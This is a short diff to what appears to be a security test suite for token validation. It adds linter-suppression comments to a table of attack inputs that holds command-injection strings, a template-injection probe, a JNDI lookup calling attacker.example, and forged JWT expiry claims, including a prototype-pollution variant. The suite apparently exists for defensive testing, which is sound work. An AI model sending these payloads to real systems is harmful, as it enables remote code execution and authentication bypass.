@@ -822,6 +822,7 @@ const ATTACKS = {
         ['| id', ''],
         ['$(id)', ''],
         ['{{7*7}}', '49'],
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the attack
         ['${jndi:ldap://attacker.example/a}', ''],
         ['https://attacker.example/key', OTHER],
         [part(OTHER), OTHER],
@@ -1294,6 +1295,7 @@ const ATTACKS = {
     'exp spelt in capitals': () => withClaims({ exp: undefined, EXP: now() + 3600 }),
     'exp in another object': () => withClaims({ exp: undefined, claims: `{"exp":${now() + 3600}}` }),
     'exp behind a prototype': () =>
+      // biome-ignore lint/suspicious/noDuplicateObjectKeys: the first sets the prototype, the second is a key
       withClaims({ exp: undefined, __proto__: null, ['__proto__']: `{"exp":${now() + 3600}}` }),
     'exp in the header': () => forge({ ...HS256, exp: now() + 3600 }, claims({ exp: undefined })),
     'exp 0': () => withClaims({ exp: '0' }),
